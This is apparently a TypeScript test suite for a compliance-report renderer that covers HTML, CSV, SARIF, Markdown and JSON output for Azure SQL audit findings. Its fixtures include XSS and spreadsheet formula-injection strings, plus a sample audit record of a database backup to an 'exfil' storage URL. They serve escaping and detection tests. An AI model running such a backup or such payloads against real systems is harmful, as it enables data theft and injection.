import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { createRequire } from "node:module";
import { renderReport, renderReportChunks, REPORT_FORMATS, splitReport } from "../../src/core/report/render.js";
import type { RenderFormat } from "../../src/core/report/render.js";
import { complianceReportSchema } from "../../src/core/report/model.js";
import type { ComplianceReport, ReportTarget } from "../../src/core/report/model.js";
import { CSV_HEADER, csvCell } from "../../src/core/report/formats/csv.js";
import { escapeHtml } from "../../src/core/report/formats/html.js";
import { sampleReport } from "../fixtures/report/sample-report.js";

const report = sampleReport();
/** How each format writes a piece of text: the check looks for it as that format must spell it. */
const spelled = (format: string, text: string) =>
  format === "json" || format === "sarif" ? JSON.stringify(text).slice(1, -1) : format === "html" ? escapeHtml(text) : format === "csv" ? text.replace(/"/g, '""') : text.replace(/\|/g, "\\|").replace(/`/g, "\\`");

describe("every format carries the same content", () => {
  for (const format of REPORT_FORMATS) {
    it(`${format}: every target and every failing rule appears`, () => {
      const { body } = renderReport(report, format);
      for (const t of report.targets) {
        assert.ok(body.includes(spelled(format, t.id)), `${format} has ${t.id}`);
        for (const f of t.findings) assert.ok(body.includes(f.ruleId), `${format} has ${f.ruleId} for ${t.name}`);
      }
      assert.ok(body.includes("ALTER SERVER AUDIT [BackupRestoreAudit] WITH (STATE = ON);"), `${format} shows the exact remediation`);
    });
  }
});

describe("HTML", () => {
  const { body, contentType } = renderReport(report, "html");
  it("is a self-contained page with no script", () => {
    assert.equal(contentType, "text/html; charset=utf-8");
    assert.doesNotMatch(body, /<script/i);
    assert.doesNotMatch(body, /(src|href)=["']https?:/i, "no external assets");
    assert.ok(body.includes("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"), "hostile names are escaped");
  });
  it("draws both charts as accessible SVG", () => {
    assert.match(body, /<svg id="chart-by-kind" role="img" aria-label="Compliance by kind"/);
    assert.match(body, /<svg id="chart-over-time" role="img" aria-label="Compliance over time"/);
    assert.equal((body.match(/class="point"/g) ?? []).length, 4);
  });
  it("stays reasonable with 2,000 targets", () => {
    const big = renderReport(sampleReport(2000), "html").body;
    assert.ok(big.length < 3_000_000, `${big.length} bytes`);
  });
});

describe("CSV", () => {
  it("is RFC 4180 with formula injection neutralised", () => {
    const { body } = renderReport(report, "csv");
    assert.ok(body.endsWith("\r\n"));
    // The header's first thirteen columns as before; the byte order mark and the columns after them are new.
    assert.match(body.replace(/^\uFEFF/, "").split("\r\n")[0]!, /^subscription_id,resource_group,kind,name,resource_id,status,reason,scanned_at,rule_id,severity,finding,observed_at,remediation,/);
    assert.equal(csvCell('=1+1, "quoted"'), `"'=1+1, ""quoted"""`);
    assert.equal(csvCell("@SUM(A1)"), "'@SUM(A1)");
    assert.equal(csvCell("plain"), "plain");
    assert.doesNotMatch(body, /(^|,)=HYPERLINK/m);
  });
});

describe("SARIF 2.1.0", () => {
  // Required properties and enums checked by hand from the OASIS SARIF 2.1.0 specification (sarifLog, run,
  // toolComponent, reportingDescriptor, result); the schema itself cannot be downloaded here.
  const sarif = JSON.parse(renderReport(report, "sarif").body) as {
    version: string;
    runs: Array<{ tool: { driver: { name: string; rules: Array<{ id: string; shortDescription: { text: string }; defaultConfiguration: { level: string } }> } }; results: Array<{ ruleId: string; ruleIndex?: number; level: string; message: { text: string }; locations: Array<{ logicalLocations: Array<{ fullyQualifiedName: string; kind: string }> }> }>; invocations: Array<{ executionSuccessful: boolean }> }>;
  };
  it("has the log's required structure", () => {
    assert.equal(sarif.version, "2.1.0");
    assert.equal(sarif.runs.length, 1);
    const run = sarif.runs[0]!;
    assert.equal(run.tool.driver.name, "AuditGuard");
    assert.equal(run.invocations[0]!.executionSuccessful, true);
    for (const rule of run.tool.driver.rules) {
      assert.ok(rule.id && rule.shortDescription.text);
      assert.ok(["none", "note", "warning", "error"].includes(rule.defaultConfiguration.level));
    }
  });
  it("has one result per open finding, pointing at its rule and resource", () => {
    const run = sarif.runs[0]!;
    const expected = report.targets.reduce((n, t) => n + t.findings.length, 0);
    assert.equal(run.results.length, expected);
    for (const r of run.results) {
      assert.ok(["none", "note", "warning", "error"].includes(r.level));
      assert.equal(run.tool.driver.rules[r.ruleIndex!]!.id, r.ruleId);
      assert.match(r.locations[0]!.logicalLocations[0]!.fullyQualifiedName, /^\/subscriptions\//);
      assert.equal(r.locations[0]!.logicalLocations[0]!.kind, "resource");
    }
  });
});

describe("Markdown", () => {
  it("escapes table pipes and backticks, and fences the changes", () => {
    const { body } = renderReport(report, "markdown");
    assert.ok(body.includes("\\|=cmd"), "pipes in names are escaped");
    assert.match(body, /```sql\nALTER SERVER AUDIT \[BackupRestoreAudit\] WITH \(STATE = ON\);\n```/);
  });
});

describe("CSV for spreadsheets", () => {
  it("starts with a UTF-8 byte order mark, so Excel reads it as UTF-8", () => {
    // Microsoft Support, "How to open a CSV file that has UTF-8 characters in Excel": Excel detects UTF-8 by its BOM.
    const bytes = Buffer.from(renderReport(report, "csv").body, "utf8");
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(bytes.subarray(3).toString("utf8").split("\r\n")[0], CSV_HEADER.join(","));
  });
  it("has one row per audit record of an activity finding, with its own time", () => {
    const rows = renderReport(report, "csv").body.split("\r\n").filter((l) => l.includes("activity.copy-only-backup") && l.includes("mi-noaudit-07"));
    assert.equal(rows.length, 2);
    assert.ok(rows[0]!.includes("2026-11-24T09:30:00.000Z") && rows[0]!.includes("203.0.113.7") && rows[0]!.includes("BACKUP (BA)"));
    assert.ok(rows[1]!.includes("2026-11-24T09:45:12.000Z"));
  });
});

// SARIF 2.1.0 as OASIS publishes it (schema/vendor/sarif-schema-2.1.0.json, draft-04), checked with Ajv's draft-04
// class and its format validators; then what GitHub code scanning needs on top ("SARIF support for code scanning").
const require = createRequire(import.meta.url);
const Ajv04 = require("ajv-draft-04") as new (options: object) => { compile(schema: object): ((data: unknown) => boolean) & { errors?: Array<{ instancePath: string; message?: string }> | null } };
const addFormats = require("ajv-formats") as (ajv: unknown) => void;
const sarifSchema = JSON.parse(readFileSync(join(process.cwd(), "schema", "vendor", "sarif-schema-2.1.0.json"), "utf8")) as object;
const ajv = new Ajv04({ allErrors: true, strict: false });
addFormats(ajv);
const validateSarif = ajv.compile(sarifSchema);

interface SarifResult {
  ruleId: string;
  message: { text: string };
  locations: Array<{ physicalLocation: { artifactLocation: { uri: string; index?: number }; region: Record<string, number> } }>;
  partialFingerprints: Record<string, string>;
  fixes?: Array<{ artifactChanges?: unknown[] }>;
  properties: { events?: Array<Record<string, string>>; pendingChanges?: Array<{ change: string }>; consequenceOf?: string };
}
interface SarifLog {
  runs: Array<{ tool: { driver: { rules: Array<{ id: string; help: { text: string; markdown: string }; fullDescription: { text: string } }> } }; results: SarifResult[]; artifacts: Array<{ location: { uri: string }; properties: { resourceId: string } }> }>;
}

describe("SARIF against the OASIS schema and GitHub's ingestion rules", () => {
  const text = renderReport(report, "sarif").body;
  const log = JSON.parse(text) as SarifLog;
  const run = log.runs[0]!;
  it("validates against the SARIF 2.1.0 schema with no errors", () => {
    const ok = validateSarif(JSON.parse(text));
    assert.deepEqual(validateSarif.errors ?? [], [], "schema errors");
    assert.equal(ok, true);
    assert.equal(validateSarif(JSON.parse(renderReport(sampleReport(50), "sarif").body)), true);
  });
  it("gives every result a relative physical location of its resource and a region", () => {
    for (const r of run.results) {
      const loc = r.locations[0]!.physicalLocation;
      assert.match(loc.artifactLocation.uri, /^subscriptions\/[0-9a-f-]+\/resourcegroups\/[^/]+\/providers\/microsoft\.(sql|synapse)\/[^/]+\/./);
      assert.doesNotMatch(loc.artifactLocation.uri, /[\s<>"]/, "a valid URI reference");
      assert.equal(run.artifacts[loc.artifactLocation.index!]!.location.uri, loc.artifactLocation.uri, "the index names its artifact");
      for (const k of ["startLine", "startColumn", "endLine", "endColumn"]) assert.ok(Number.isInteger(loc.region[k]) && loc.region[k]! >= 1, k);
    }
    for (const t of report.targets) assert.ok(run.artifacts.some((a) => a.properties.resourceId === t.id), `${t.name} is among the artifacts`);
  });
  it("gives every rule text and Markdown help", () => {
    for (const rule of run.tool.driver.rules) {
      assert.ok(rule.help.text.length > 20 && rule.help.markdown.includes("**Remedy:**"), rule.id);
      assert.ok(rule.fullDescription.text.length <= 1024, `${rule.id}: GitHub shows at most 1024 characters`);
    }
  });
  it("carries no fix without artifact changes: the exact change is in the result's properties", () => {
    for (const r of run.results) for (const f of r.fixes ?? []) assert.ok(f.artifactChanges?.length, "a SARIF fix needs artifactChanges");
    const fix = run.results.find((r) => r.ruleId === "mi.audit.enabled" && r.message.text.startsWith("mi-prod-01"))!;
    assert.deepEqual(fix.properties.pendingChanges?.map((c) => c.change), ["ALTER SERVER AUDIT [BackupRestoreAudit] WITH (STATE = ON);"]);
    assert.match(fix.message.text, /Fix: Turn audit BackupRestoreAudit on\./);
  });
  it("fingerprints a finding by rule and resource: the same in another scan, different for another rule or resource", () => {
    const later: ComplianceReport = structuredClone(report);
    later.generatedAt = "2026-12-01T11:00:00.000Z";
    for (const t of later.targets) {
      t.scanId = "20261201T100000-ffff0000";
      t.id = t.id.toUpperCase(); // ARM ids are case-insensitive, and the SDKs differ in their casing
      for (const f of t.findings) f.message = `${f.message} (seen again)`;
    }
    const again = (JSON.parse(renderReport(later, "sarif").body) as SarifLog).runs[0]!.results;
    const key = (r: SarifResult) => {
      const hash = r.partialFingerprints.primaryLocationLineHash;
      assert.ok(hash, "every result has a primaryLocationLineHash");
      return hash;
    };
    assert.deepEqual(again.map(key), run.results.map(key));
    assert.equal(new Set(run.results.map(key)).size, run.results.length, "distinct findings, distinct fingerprints");
    for (const r of run.results) assert.match(key(r), /^[0-9a-f]{16}:1$/);
  });
  it("carries the audit records of activity findings and the cause of a consequence", () => {
    const activity = run.results.find((r) => r.ruleId === "activity.copy-only-backup" && r.message.text.startsWith("mi-noaudit-07"))!;
    assert.deepEqual(activity.properties.events?.map((e) => [e.time, e.principal, e.clientIp, e.application]), [
      ["2026-11-24T09:30:00.000Z", "mallory@contoso.com", "203.0.113.7", "Microsoft SQL Server Management Studio"],
      ["2026-11-24T09:45:12.000Z", "mallory@contoso.com", undefined, undefined],
    ]);
    const consequence = run.results.find((r) => r.ruleId === "mi.audit.started" && r.message.text.startsWith("mi-noaudit-07"))!;
    assert.equal(consequence.properties.consequenceOf, "mi.audit.exists");
  });
});

describe("activity evidence in every format", () => {
  // The event's own time, principal, database, client IP, application, action and the redacted statement.
  const event = { time: "2026-11-24T09:30:00.000Z", principal: "mallory@contoso.com", database: "sales", clientIp: "203.0.113.7", application: "Microsoft SQL Server Management Studio", actionName: "BACKUP", statement: "BACKUP DATABASE [sales] TO URL = N'https://exfil.blob.core.windows.net/c/sales.bak' WITH COPY_ONLY" };
  for (const format of REPORT_FORMATS) {
    it(`${format}: shows who, when, where from and what`, () => {
      const { body } = renderReport(report, format);
      const time = format === "html" ? "2026-11-24 09:30:00 UTC" : event.time;
      for (const value of [time, event.principal, event.database, event.clientIp, event.application, event.actionName, event.statement]) assert.ok(body.includes(spelled(format, value)), `${format} has ${value}`);
    });
  }
  it("renders only what the records carry: no client IP column when none has one", () => {
    const bare: ComplianceReport = structuredClone(report);
    for (const t of bare.targets) for (const f of t.findings) for (const e of f.evidence?.events ?? []) delete e.clientIp;
    for (const format of ["html", "markdown"] as const) assert.ok(!renderReport(bare, format).body.includes("Client IP"), format);
    assert.ok(renderReport(report, "html").body.includes("Client IP"));
  });
  it("HTML labels the time of each finding: the event time for activity, the observation time otherwise", () => {
    const { body } = renderReport(report, "html");
    assert.match(body, /<span class="when-label">events<\/span> <time datetime="2026-11-24T09:30:00.000Z">2026-11-24 09:30:00 UTC<\/time> to <time datetime="2026-11-24T09:45:12.000Z">/);
    assert.match(body, /<span class="when-label">observed<\/span> <time datetime="2026-11-24T10:00:01.000Z">/);
  });
});

describe("one root cause reads as one problem", () => {
  const noAudit = report.targets.find((t) => t.name === "mi-noaudit-07")!;
  it("the model puts the seven consequences of a missing audit under it", () => {
    const under = noAudit.findings.filter((f) => f.consequenceOf === "mi.audit.exists").map((f) => f.ruleId);
    assert.deepEqual(under.sort(), ["mi.audit.enabled", "mi.audit.options", "mi.audit.started", "mi.audit.target", "mi.specification.enabled", "mi.specification.exists", "mi.specification.groups"]);
    assert.equal(noAudit.findings.find((f) => f.ruleId === "mi.audit.exists")!.consequenceOf, undefined);
    assert.equal(noAudit.findings.find((f) => f.ruleId === "activity.copy-only-backup")!.consequenceOf, undefined, "unrelated findings stay roots");
  });
  it("HTML and Markdown show one root with its consequences beneath it", () => {
    const html = renderReport(report, "html").body;
    const section = html.slice(html.indexOf('id="t-'), html.length).split("</tbody>").find((b) => b.includes("mi-noaudit-07"))!;
    assert.equal((section.match(/<tr class="consequence">/g) ?? []).length, 7);
    assert.equal((section.match(/<tr class="finding">/g) ?? []).length, 2);
    assert.match(section, /9 findings, 2 causes/);
    const md = renderReport(report, "markdown").body;
    assert.equal((md.match(/^ {2}- consequence: \*\*mi\./gm) ?? []).length, 7);
  });
});

describe("streaming", () => {
  async function collect(chunks: AsyncIterable<string>): Promise<string> {
    let out = "";
    for await (const c of chunks) out += c;
    return out;
  }
  async function* slowly(targets: ReportTarget[], pulled: { count: number }) {
    for (const t of targets) {
      pulled.count++;
      await Promise.resolve();
      yield t;
    }
  }
  for (const format of REPORT_FORMATS) {
    it(`${format}: a header and an async iterable of targets render exactly what the whole report renders`, async () => {
      const { header, targets } = splitReport(report);
      assert.equal(await collect(renderReportChunks(header, slowly(targets, { count: 0 }), format)), renderReport(report, format).body);
      assert.equal(await collect(renderReportChunks(header, [], format)), renderReport({ ...header, targets: [] }, format).body);
    });
  }
  it("reads the targets as it writes: a chunk is out before the next target is pulled", async () => {
    const { header, targets } = splitReport(report);
    for (const format of REPORT_FORMATS as readonly RenderFormat[]) {
      const pulled = { count: 0 };
      const seen: number[] = [];
      for await (const _ of renderReportChunks(header, slowly(targets, pulled), format)) seen.push(pulled.count);
      assert.equal(seen[0], 0, `${format}: the header goes out before any target is read`);
      assert.ok(seen.includes(1), `${format}: the first target's chunk goes out before the second is read`);
    }
  });
  it("JSON stays one document: JSON.stringify's layout, valid against the report schema", async () => {
    const body = renderReport(report, "json").body;
    assert.equal(body, `${JSON.stringify(report, null, 2)}\n`);
    complianceReportSchema.parse(JSON.parse(body));
    const empty = renderReport({ ...splitReport(report).header, targets: [] }, "json").body;
    assert.deepEqual(JSON.parse(empty).targets, []);
  });
});
